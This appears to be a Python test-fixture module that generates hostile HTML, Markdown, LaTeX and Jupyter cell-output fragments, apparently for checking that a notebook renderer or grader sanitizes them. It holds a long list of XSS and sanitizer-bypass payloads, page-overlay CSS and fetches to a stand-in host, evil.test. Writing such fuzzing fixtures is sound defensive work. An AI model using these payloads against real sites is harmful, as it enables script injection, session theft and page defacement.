"""Hostile fragments, generated: payloads in wrappers, each with a number of its own.

A fragment that runs sets ``window.ran``, one that fetches asks ``https://evil.test/``, and one
that covers the page is laid over its top left corner.
"""

from __future__ import annotations

import itertools
import json
import random

RUN = "window.ran=(window.ran||'')+'{n} '"
FAR = "https://evil.test/{n}"
OVER = "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:red"
EVENTS = "onload onerror onclick onmouseover onfocus ontoggle onbegin onanimationstart".split()

HTML = (
    "<script>{run}</script>",
    "<script src={far}></script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script/x>{run}</script>",
    '<img src=x onerror="{run}">',
    "<img src=x onerror={run}//",
    "<img/src=x/onerror={run}>",
    "<img src={far}>",
    "<img srcset='{far} 1x'>",
    "<picture><source srcset={far}><img></picture>",
    "<video src={far} autoplay></video>",
    '<audio src={far} autoplay onerror="{run}"></audio>',
    "<iframe src='javascript:{run}'></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<object data={far}></object>",
    "<embed src={far}>",
    '<svg onload="{run}"></svg>',
    "<svg><script>{run}</script></svg>",
    '<svg><animate onbegin="{run}" attributeName=x dur=1s></svg>',
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz4='/></svg>",
    "<svg><image href={far}></svg>",
    '<svg><foreignObject><body onload="{run}"></foreignObject></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={run}&gt;">',  # noqa: E501
    "<math><annotation-xml encoding='text/html'><img src=x onerror=\"{run}\"></annotation-xml></math>",  # noqa: E501
    "<math href='javascript:{run}'><mi>click</mi></math>",
    "<math><maction actiontype=statusline xlink:href='javascript:{run}'>c</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>",
    '<noscript><p title="</noscript><img src=x onerror={run}>">',
    "<select><style></select><svg onload={run}></style>",
    "<template><script>{run}</script></template>",
    '<title><img title="</title><img src=x onerror={run}>">',
    '<xmp><p title="</xmp><img src=x onerror={run}>">',
    "<textarea><img title='</textarea><img src=x onerror={run}>'>",
    "<style>@import '{far}';</style>",
    "<style>*{{background:url({far})}}</style>",
    "<style>body{{display:none}}</style>",
    "<link rel=stylesheet href={far}>",
    "<link rel=prefetch href={far}>",
    "<meta http-equiv=refresh content='0;url={far}'>",
    "<base href={far}>",
    '<body onload="{run}" background={far}>',
    "<table background={far}><td background={far}>x</table>",
    '<p style="{over}">x</p>',
    "<p style='background:url({far})'>x</p>",
    "<p style='margin-top:-9999px;margin-left:-2000px;padding:9999px;background:red'>x</p>",
    "<p style='color:red;pos\\69tion:fixed;{over}'>x</p>",
    "<p style='/**/position:fixed/**/;{over}'>x</p>",
    "<p style='transform:translateY(-9999px);box-shadow:0 0 0 9999px red'>x</p>",
    "<p style='font-size:9999px;outline:9999px solid red'>x</p>",
    "<p style='float:left;margin:-999em'>x</p>",
    "<div class='navbar navbar-fixed-top' style='background:red'>x</div>",
    "<div class='modal in modal-backdrop fade'>x</div>",
    "<div class='help' id=statusmessage>x</div>",
    "<div id=top id=notebook-container name=formgrader>x</div>",
    "<img name=formgrader id=submission_id><form id=base_url></form>",
    "<dialog open style='{over}'>x</dialog>",
    '<marquee onstart="{run}">x</marquee>',
    '<details open ontoggle="{run}">x</details>',
    '<input autofocus onfocus="{run}">',
    '<b autofocus tabindex=0 onfocus="{run}">x</b>',
    "<isindex action='javascript:{run}' type=image>",
    "<a href='javascript:{run}'>x</a>",
    "<a href='JaVa\tScRiPt:{run}'>x</a>",
    "<a href='&#106;avascript:{run}'>x</a>",
    "<a href='&#x01;javascript:{run}'>x</a>",
    "<a href='data:text/html,<script>{run}</script>'>x</a>",
    "<a href='vbscript:{run}'>x</a>",
    "<a href=x ping={far}>x</a>",
    "<a data-toggle=tooltip data-html=true title='<img src=x onerror={run}>'>x</a>",
    "<span data-link='x' class='name-hidden' onclick=\"{run}\">x</span>",
    "&lt;script&gt;{run}&lt;/script&gt;",
    '<!--><img src=x onerror="{run}">-->',
    '<![CDATA[<img src=x onerror="{run}">]]>',
    "<?xml-stylesheet href={far}?>",
    '<img src="x` `<script>{run}</script>"` `>',
    "</div></div></section></main><div style='{over}'>out</div>",
    '</pre></code></table><img src=x onerror="{run}">',
    "<plaintext><script>{run}</script>",
    "\ud83d\ude00<scr\u0000ipt>{run}</scr\u0000ipt>",
    '\u202e<img src=x onerror="{run}">\u2066',
    "\x1b]0;title\x07\x1b[2J<b>\x1b[31mred</b>",
    "<mpadded voffset=-999px><math><mspace width=9999px height=9999px style='background:red'/></math>",  # noqa: E501
    "<portal src={far}></portal>",
    "<applet code={far}>",
    '<frameset onload="{run}"><frame src={far}>',
    "<img src='data:image/svg+xml,<svg onload=\"{run}\">'>",
)
LATEX = (
    r"\tag{{<img src=x onerror={run}>}} x",
    r"\text{{<img src=x onerror={run}>}}",
    r"\style{{{over}}}{{x}}",
    r"\class{{navbar-fixed-top}}{{x}}",
    r"\href{{javascript:{run}}}{{x}}",
    r"\href{{{far}}}{{x}}",
    r"\unicode{{<script>{run}</script>}}",
    r"\def\a{{<img src=x onerror={run}>}}\a",
    r"\rule{{999em}}{{999em}}",
    r"\newcommand{{\b}}{{<script>{run}</script>}}\b",
    r"\color{{red;{over}}}{{x}}",
    r"\textcolor{{url({far})}}{{x}}",
    r"\mbox{{</math><img src=x onerror={run}>}}",
    r"\operatorname{{</mo><img src=x onerror={run}>}}",
    r"\raise999em{{x}}",
    r"x &lt;img src=x onerror={run}&gt;",
    r"\llap{{\hspace{{-999em}}x}}",
    r"\verb|<img src=x onerror={run}>|",
    r"\hskip-999em x",
    r"\begin{{matrix}}</mtd><img src=x onerror={run}>\end{{matrix}}",
    r"\require{{{far}}}",
    r"\cssId{{top}}{{x}}",
    r"\kern-999em x",
)
WRAPPERS = (
    "{}",
    "<b>{}</b>",
    "<table><tr><td>{}</table>",
    "<math><mtext>{}</mtext></math>",
    "<svg><desc>{}",
    '<p title="{}">x</p>',
    "<div><pre>{}",
    "<!--{}-->{}",
    "<noscript>{}</noscript>",
    "<style>{}</style>{}",
    "<form><input>{}",
)
IN_MARKDOWN = (
    "{}",
    "# {}",
    "> {}",
    "- {}",
    "| a |\n|---|\n| {} |",
    "**{}**",
    "```mermaid\n{}\n```",
    "[x]({})",
    "![{}](x)",
)
IN_FORMULAS = ("${}$", "$$\n{}\n$$", "\\begin{{align}}\n{}\n\\end{{align}}", "so $$ {} $$ it is")


def html(count: int, seed: int = 0) -> list[str]:
    """This many fragments of HTML; the first ones are every payload as it is."""
    return _fragments(HTML, WRAPPERS, count, seed)


def markdown(count: int, seed: int = 0) -> list[str]:
    """Fragments of HTML in Markdown, addresses and formulas."""
    formulas = _fragments(LATEX, IN_FORMULAS, len(LATEX) * 2, seed)
    pieces = html(max(count - len(formulas), 1), seed)
    rng = random.Random(seed)
    return formulas + [rng.choice(IN_MARKDOWN).replace("{}", piece) for piece in pieces]


def _fragments(
    payloads: tuple[str, ...], wrappers: tuple[str, ...], count: int, seed: int
) -> list[str]:
    rng = random.Random(seed)
    every = [(payload, wrappers[0]) for payload in payloads]
    others = list(itertools.product(payloads, wrappers[1:]))
    rng.shuffle(others)
    chosen = (every + others)[:count]
    return [
        wrapper.replace("{{", "{").replace("}}", "}").replace("{}", _filled(payload, number))
        for number, (payload, wrapper) in enumerate(chosen)
    ]


def _filled(payload: str, number: int) -> str:
    run, far = RUN.format(n=number), FAR.format(n=number)
    return payload.format(run=run, far=far, over=OVER)


def outputs(count: int, seed: int = 0) -> list[dict]:
    """Outputs of cells as a hostile kernel may leave them: fragments in every field and type."""
    rng, made = random.Random(seed), []
    for text in html(count, seed):
        made.append(rng.choice((_display, _error, _stream, _odd))(text, rng))
        made.append(_display(text, rng))
    return json.loads(json.dumps(made))


def _display(text: str, rng: random.Random) -> dict:
    kind = rng.choice(
        (
            "text/html",
            "text/html",
            "text/html",
            "image/svg+xml",
            "application/javascript",
            "text/markdown",
            "text/latex",
            "image/png",
            "text/plain",
            "application/vnd.jupyter.widget-view+json",
        )
    )
    metadata = {"text/html": {"isolated": True}, "filenames": {"image/png": text}, "width": text}
    output = {"output_type": "display_data", "data": {kind: text}}
    return {**output, "metadata": rng.choice(({}, metadata))}


def _error(text: str, _: random.Random) -> dict:
    return {"output_type": "error", "ename": text, "evalue": text, "traceback": [text]}


def _stream(text: str, _: random.Random) -> dict:
    return {"output_type": "stream", "name": text, "text": text}


def _odd(text: str, _: random.Random) -> dict:
    data = {text: text, "text/html": [text, 3], "text/plain": text}
    return {
        "output_type": "execute_result",
        "data": data,
        "metadata": text,
        "execution_count": text,
    }
